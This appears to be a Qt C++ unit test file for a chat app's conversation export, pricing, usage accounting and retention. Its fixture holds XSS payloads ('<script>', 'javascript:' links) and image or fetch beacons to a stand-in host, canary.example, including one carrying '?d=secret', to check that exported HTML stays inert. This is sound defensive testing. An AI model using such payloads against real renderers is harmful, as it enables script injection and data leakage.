#include "core/chat/ConversationExport.h"
#include "core/chat/Prices.h"
#include "core/chat/Retention.h"
#include "core/chat/Usage.h"
#include "core/settings/Settings.h"
#include "tests/core/chat/ChatFixture.h"

#include <QRegularExpression>

using namespace chimera;
using namespace chimera::test;

class ChatKeepingTest : public QObject
{
    Q_OBJECT

    static Conversation poisoned()
    {
        Conversation conversation;
        conversation.title = QStringLiteral("<script>alert(1)</script> & [x](http://canary.example/?t)");
        Message message;
        message.role = MessageRole::Assistant;
        message.content =
            QStringLiteral("Hi ![p](http://canary.example/?d=secret) <img src=\"http://canary.example/2\">\n\n"
                           "<script>fetch('http://canary.example/3')</script> [go](javascript:alert(1))\n\n"
                           "![r][ref]\n\n[ref]: http://canary.example/4\n");
        message.citations = {{1, MemoryId(QStringLiteral("memory-aaaaaaaaaaaa")),
                              QStringLiteral("A <b>title</b> ![i](http://canary.example/5)"),
                              QStringLiteral("quote \" onload=x"), 0, 1, 1}};
        message.state = MessageState::Failed;
        message.error = QStringLiteral("It <i>failed</i>.");
        conversation.thread.push_back(message);
        return conversation;
    }

private Q_SLOTS:
    void aPoisonedAnswerExportsWithoutAnyRequest()
    {
        const QString html = toHtml(poisoned());
        for (const char* never : {"<script>", "<img src=\"http", "href=\"javascript", "<b>title", "<i>failed"})
            QVERIFY2(!html.contains(QLatin1String(never)), never);
        static const QRegularExpression loads(QStringLiteral("<(img|link|iframe|object|embed|script|video)\\b"));
        QVERIFY2(!loads.match(html.mid(html.indexOf(QLatin1String("<body>")))).hasMatch(), qPrintable(html));
        const QString markdown = toMarkdown(poisoned());
        QVERIFY(markdown.startsWith(QLatin1String("# \\<script\\>")));
        QVERIFY(markdown.contains(QLatin1String("1. **A \\<b\\>title\\</b\\> \\!\\[i\\](http://canary.example/5)**")));
    }

    void exportsReadLikeAConversation()
    {
        ChatProfile p;
        const auto id = p.start(QStringLiteral("Plan"))->id;
        p.talk(id, {QStringLiteral("Where?"), QStringLiteral("**Here** [1].")});
        const QString text = toMarkdown(*p.open(id));
        QVERIFY(text.startsWith(QLatin1String("# Plan\n\n## You")));
        QVERIFY(text.contains(QLatin1String("\n\nWhere?\n")));
        QVERIFY(text.contains(QLatin1String("\n**Here** [1].\n")));
        QVERIFY(toHtml(*p.open(id)).contains(QLatin1String("<strong>Here</strong>")));
    }

    void pricesAreTheUsersOwnFirst()
    {
        QCOMPARE(*costOf({}, QStringLiteral("openai"), QStringLiteral("gpt-4o"), 1'000'000, 100'000), 3.5);
        QCOMPARE(*costOf({}, QStringLiteral("openai"), QStringLiteral("gpt-4o-mini"), 1'000'000, 0), 0.15);
        QCOMPARE(*costOf({}, QStringLiteral("recall"), QStringLiteral("x"), 1'000'000, 1'000'000), 0.0);
        QVERIFY(!costOf({}, QStringLiteral("custom"), QStringLiteral("big"), 1, 1));
        const QJsonObject own{{QStringLiteral("openai/gpt-4o"), QJsonObject{{QStringLiteral("input"), 1.0}}},
                              {QStringLiteral("custom/big"), QJsonObject{{QStringLiteral("output"), 2.0}}}};
        QCOMPARE(*costOf(own, QStringLiteral("openai"), QStringLiteral("gpt-4o"), 1'000'000, 1'000'000), 1.0);
        QCOMPARE(*costOf(own, QStringLiteral("custom"), QStringLiteral("big"), 0, 500'000), 1.0);
    }

    void usageIsSummedByProvider()
    {
        ChatProfile p;
        const auto conversation = p.start();
        const auto record = [&](const QString& provider, double ms, bool failed) {
            UsageEntry entry;
            entry.conversationPk = conversation->pk;
            entry.workspacePk = 1;
            entry.provider = provider;
            entry.model = QStringLiteral("gpt-4o");
            entry.promptTokens = 1'000'000;
            entry.totalMs = ms;
            entry.failed = failed;
            CHIMERA_VERIFY(p.write([&](WriteTx& tx) { return Usage::record(tx, entry); }));
        };
        for (int i = 1; i <= 20; ++i)
            record(QStringLiteral("openai"), i * 10, false);
        record(QStringLiteral("openai"), 9'999, true);
        record(QStringLiteral("custom"), 5, false);
        const auto sums =
            p.read([&](ReadTx& tx) { return Usage::byProvider(p.caller(), tx, p.workspace(), Timestamp()); });
        CHIMERA_VERIFY(sums);
        QCOMPARE(sums->size(), 2U);
        const UsageSum& openai = sums->front();
        QCOMPARE(openai.provider, QStringLiteral("openai"));
        QCOMPARE(openai.requests, 21);
        QCOMPARE(openai.failed, 1);
        QCOMPARE(openai.cost, 21 * 2.5);
        QCOMPARE(openai.p50Ms, 110.0);
        QCOMPARE(openai.p95Ms, 190.0);
        QCOMPARE(sums->back().unpriced, 1);
        const auto whole = p.read([&](ReadTx& tx) { return Usage::ofConversation(p.caller(), tx, conversation->id); });
        QCOMPARE(whole->requests, 22);
        QCOMPARE(whole->p50Ms, 100.0); // of 5, 10, 20 ... 200
        QCOMPARE(whole->p95Ms, 190.0);
        p.clock().advanceSeconds(86'400);
        record(QStringLiteral("openai"), 7, false);
        const auto days = p.read([&](ReadTx& tx) { return Usage::byDay(p.caller(), tx, p.workspace(), Timestamp()); });
        QCOMPARE(days->size(), 2U);
        QCOMPARE(days->at(0).sum.requests, 1);
        QCOMPARE(days->at(0).day.addDays(-1), days->at(1).day);
        QCOMPARE(days->at(1).sum.failed, 1);
        const auto recent = p.read(
            [&](ReadTx& tx) { return Usage::byDay(p.caller(), tx, p.workspace(), p.clock().now().plusDays(-1)); });
        QCOMPARE(recent->size(), 2U);
        QCOMPARE(
            p.read([&](ReadTx& tx) { return Usage::byDay(p.stranger(), tx, p.workspace(), Timestamp()); }).error().code,
            ErrorCode::Denied);
        // What it cost stays when the conversation goes.
        CHIMERA_VERIFY(p.write([&](WriteTx& tx) { return Conversations::trash(p.caller(), tx, {conversation->id}); }));
        CHIMERA_VERIFY(p.write([&](WriteTx& tx) { return Conversations::purge(p.caller(), tx, {conversation->id}); }));
        QCOMPARE(*p.read([](ReadTx& tx) { return tx.count("SELECT count(*) FROM usage"); }), 23);
    }

    void retentionShowsThenMovesToTrash()
    {
        ChatProfile p;
        const auto old = p.start(QStringLiteral("Old"))->id;
        const auto kept = p.start(QStringLiteral("Pinned"))->id;
        CHIMERA_VERIFY(p.write([&](WriteTx& tx) {
            ConversationEdit edit;
            edit.pinned = true;
            return Conversations::edit(p.caller(), tx, kept, edit);
        }));
        NewMemory summary;
        summary.title = QStringLiteral("Summary");
        summary.content = QStringLiteral("text");
        summary.source = QStringLiteral("conversation");
        CHIMERA_VERIFY(p.write([&](WriteTx& tx) { return Memories::create(p.caller(), tx, p.workspace(), summary); }));
        CHIMERA_VERIFY(p.remember(QStringLiteral("Mine"), QStringLiteral("written by hand")));
        p.clock().advanceSeconds(85 * 86'400);
        CHIMERA_VERIFY(p.start(QStringLiteral("New")));
        const auto preview = [&](const char* period) {
            return p.read([&](ReadTx& tx) {
                return previewRetention(p.caller(), tx, p.workspace(), QString::fromLatin1(period));
            });
        };
        QVERIFY(preview("indefinite-forever")->conversations.empty());
        QVERIFY(preview("90-days")->conversations.empty());
        QCOMPARE(preview("indefinite-84")->conversations.size(), 1U);
        QCOMPARE(preview("indefinite-84")->memories.at(0).second, QStringLiteral("Summary"));
        QCOMPARE(preview("1-day").error().code, ErrorCode::Invalid);
        const auto moved = p.write(
            [&](WriteTx& tx) { return applyRetention(p.caller(), tx, p.workspace(), QStringLiteral("30-days")); });
        QCOMPARE(*moved, 2);
        CHIMERA_VERIFY(p.write([&](WriteTx& tx) { return Conversations::restore(p.caller(), tx, {old}); }));
    }
};

QTEST_GUILESS_MAIN(ChatKeepingTest)
#include "ChatKeepingTest.moc"
